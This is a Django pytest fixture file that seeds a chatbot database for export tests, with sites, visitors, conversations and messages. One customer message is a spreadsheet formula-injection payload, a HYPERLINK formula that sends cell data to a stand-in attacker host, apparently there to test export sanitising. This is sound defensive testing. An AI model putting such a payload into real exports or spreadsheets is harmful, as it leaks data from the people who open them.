"""A small seeded database for the export tests: two sites, three visitors, three conversations with
every kind of message, written out by hand so the expected export rows can be too."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.core.cache import cache
from django.test import Client

from chatbot.console.models import Note, Operator, Role
from chatbot.conversations.models import ContactRequest, Conversation, Message, Visitor
from chatbot.exports.services import api_token_create
from chatbot.sites.models import Site


def at(day: int, hour: int, minute: int = 0, second: int = 0) -> datetime:
    return datetime(2026, 3, day, hour, minute, second, tzinfo=UTC)


@dataclass
class Seed:
    shop: Site
    other: Site
    admin: Any
    olivia: Any  # an operator of `shop` only
    jane: Visitor  # shop
    sam: Visitor  # shop
    omar: Visitor  # other
    returns: Conversation  # jane's, closed after a handoff
    order: Conversation  # sam's, with the bot
    refund: Conversation  # omar's, on the other site, waiting for a person
    messages: dict[str, Message]


def _message(conversation: Conversation, seq: int, when: datetime, **fields: Any) -> Message:
    message = Message.objects.create(conversation=conversation, seq=seq, **fields)
    Message.objects.filter(pk=message.pk).update(created_at=when)
    message.refresh_from_db()
    return message


def _conversation(site: Site, visitor: Visitor, when: datetime, **fields: Any) -> Conversation:
    conversation = Conversation.objects.create(site=site, visitor=visitor, **fields)
    Conversation.objects.filter(pk=conversation.pk).update(created_at=when)
    conversation.refresh_from_db()
    return conversation


@pytest.fixture
def seed(db: None) -> Seed:
    users = get_user_model().objects
    shop = Site.objects.create(key="shop", name="Shop")
    other = Site.objects.create(key="other", name="Other shop")
    admin = users.create_user("ada", password="pw-ada-0123456789")
    Operator.objects.create(user=admin, role=Role.ADMIN)
    olivia = users.create_user("olivia", password="pw-olivia-0123456789")
    Operator.objects.create(user=olivia, role=Role.OPERATOR, display_name="Olivia").sites.add(shop)

    jane = Visitor.objects.create(site=shop)
    sam = Visitor.objects.create(site=shop)
    omar = Visitor.objects.create(site=other)

    returns = _conversation(
        shop,
        jane,
        at(1, 10),
        status="closed",
        last_seq=6,
        page_url="https://shop.example.com/returns?email=jane@example.com",
        closed_at=at(1, 10, 30),
        handed_off_at=at(1, 10, 5),
        first_human_reply_at=at(1, 10, 7),
        assignee=olivia,
        csat=5,
        sentiment=0.6,
        sentiment_label="positive",
        complaint_category="other",
        complaint_severity="low",
    )
    order = _conversation(shop, sam, at(3, 9), status="bot", last_seq=2)
    refund = _conversation(
        other,
        omar,
        at(2, 12),
        status="waiting_human",
        last_seq=2,
        sentiment=-0.7,
        sentiment_label="negative",
        complaint_category="refund",
        complaint_severity="medium",
    )

    m: dict[str, Message] = {}
    m["r1"] = _message(
        returns,
        1,
        at(1, 10, 0, 1),
        sender="customer",
        text="Hi, how do I return shoes? Mail me at jane@example.com",
        sentiment=0.1,
        sentiment_label="neutral",
    )
    m["r2"] = _message(
        returns,
        2,
        at(1, 10, 0, 2),
        sender="bot",
        text="Send them back within 30 days.",
        reply_to=m["r1"],
        intent="faq",
        confidence=0.82,
        sources=[{"id": 7, "question": "How do I return an item?", "score": 0.82}],
        decision="answer",
        decision_reason="FAQ match 0.82 >= 0.45",
        model_version="retrieval:minilm",
        timings={"first_token": 120, "total": 340},
        feedback="up",
    )
    m["r3"] = _message(
        returns,
        3,
        at(1, 10, 4),
        sender="customer",
        text='=HYPERLINK("http://evil.example/?x="&A1,"help")',
        sentiment=-0.4,
        sentiment_label="negative",
        complaint_category="other",
        complaint_severity="low",
    )
    m["r4"] = _message(
        returns,
        4,
        at(1, 10, 5),
        sender="bot",
        text="I'll get a person to help you.",
        reply_to=m["r3"],
        intent="human",
        confidence=0.91,
        decision="handoff",
        decision_reason="customer asked for a person",
        model_version="retrieval:minilm",
        timings={"first_token": 80, "total": 95},
    )
    m["r5"] = _message(returns, 5, at(1, 10, 6), sender="system", text="Olivia joined the chat.")
    m["r6"] = _message(
        returns,
        6,
        at(1, 10, 7),
        sender="operator",
        text="+44 20 7946 0958 is our returns line, or pay with 4111 1111 1111 1111",
        author=olivia,
        author_name="Olivia",
    )
    m["o1"] = _message(
        order,
        1,
        at(3, 9, 0, 1),
        sender="customer",
        text="Where is order LL-2024-000123? Call (555) 123-4567",
    )
    m["o2"] = _message(
        order,
        2,
        at(3, 9, 0, 2),
        sender="bot",
        text="Which one do you mean?",
        reply_to=m["o1"],
        intent="order_status",
        confidence=0.55,
        sources=[
            {"id": 3, "question": "Where is my order?", "score": 0.55},
            {"id": 4, "question": "Track", "score": 0.54},
        ],
        decision="clarify",
        decision_reason="two close matches",
        model_version="retrieval:minilm",
        timings={"first_token": 50, "total": 60},
    )
    m["f1"] = _message(
        refund,
        1,
        at(2, 12, 0, 1),
        sender="customer",
        text="@everyone I want a refund",
        sentiment=-0.7,
        sentiment_label="negative",
        complaint_category="refund",
        complaint_severity="medium",
    )
    m["f2"] = _message(
        refund,
        2,
        at(2, 12, 0, 2),
        sender="bot",
        text="Let me find someone.",
        reply_to=m["f1"],
        intent="refund",
        confidence=0.7,
        decision="handoff",
        decision_reason="oos p=0.82",
        model_version="retrieval:minilm",
    )
    ContactRequest.objects.create(conversation=returns, email="jane@example.com", text="Please call me back")
    Note.objects.create(conversation=returns, author=olivia, author_name="Olivia", text="Repeat customer")
    Note.objects.create(conversation=refund, author=admin, author_name="ada", text="Angry about delays")
    return Seed(shop, other, admin, olivia, jane, sam, omar, returns, order, refund, m)


@pytest.fixture(autouse=True)
def plain_http(settings: Any) -> None:
    """Production settings redirect plain HTTP to HTTPS; the test client speaks plain HTTP."""
    settings.SECURE_SSL_REDIRECT = False


@pytest.fixture(autouse=True)
def empty_cache() -> Iterator[None]:
    """Rate-limit counters live in the cache: each test starts with none."""
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def signed_in(client: Client) -> Callable[[Any], Client]:
    def sign_in(user: Any) -> Client:
        client.force_login(user)
        return client

    return sign_in


@pytest.fixture
def token_for() -> Callable[[Any], str]:
    def make(user: Any) -> str:
        return api_token_create(user=user, name="pipeline")[1]

    return make


def body(response: Any) -> str:
    """The whole body of a streamed response, decoded."""
    return b"".join(response.streaming_content).decode()
